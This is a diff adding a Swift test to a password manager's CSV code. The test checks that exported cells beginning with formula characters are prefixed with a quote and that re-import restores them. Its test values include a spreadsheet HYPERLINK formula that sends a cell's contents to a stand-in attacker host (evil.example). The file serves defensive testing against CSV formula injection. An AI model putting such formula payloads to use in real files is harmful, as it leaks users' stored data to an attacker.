@@ -1,4 +1,6 @@
 import Testing
+import SesameCrypto
+import SesameStore
 @testable import SesameInterchange
 
 @Suite struct CSVTests {
@@ -67,5 +69,35 @@ import Testing
         let again = try read(written)
         #expect(again.problems.isEmpty)
         #expect(again.rows.map(\.fields) == [fields])
+    }
+
+    /// Issue 22, finding 11: the export wrote cells starting with `=`, `+`, `-`, `@` verbatim, so a spreadsheet
+    /// opening it ran them as formulas. They are written after a `'` (tab and carriage return too, as OWASP
+    /// advises), and Sesame's import of its own export removes it, so every value comes back as it was.
+    @Test func formulaCellsAreWrittenAsTextAndReadBackUnchanged() throws {
+        let values = ["=HYPERLINK(\"https://evil.example/?\"&D2,\"open\")", "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx",
+                      "'=quoted", "''+twice", "'plain", "a=b", "ok", "-"]
+        let items = values.enumerated().map { index, value in
+            Item(title: "t\(index)", username: value, password: value, urls: [ItemURL("https://s\(index).example")],
+                 notes: value)
+        } + [Item(title: "=1+1", password: "x")]
+        let written = CSVExport.write(items)
+        let rows = try CSVReader.read(written).rows.dropFirst()
+        for (row, item) in zip(rows, items) {
+            let cells = [row.fields[0], row.fields[2], row.fields[3], row.fields[4]]
+            let originals = [item.title, item.username, item.password, item.notes]
+            for (cell, original) in zip(cells, originals) {
+                #expect(cell == (SpreadsheetCell.needsEscape(original) ? "'" + original : original))
+                #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.first.map(String.init) ?? ""))
+            }
+        }
+        #expect(CSVExport.escapedCellCount(items) == 3 * 9 + 1)
+        let (format, batch) = try ImportReader.read(written, as: nil) { _ in SecureBytes(utf8: "") }
+        #expect(format == .safari)
+        #expect(batch.rejected.isEmpty)
+        #expect(batch.records.map(\.item.title) == items.map(\.title))
+        #expect(batch.records.map(\.item.username) == items.map(\.username))
+        #expect(batch.records.map(\.item.password) == items.map(\.password))
+        #expect(batch.records.map(\.item.notes) == items.map(\.notes))
     }
 }
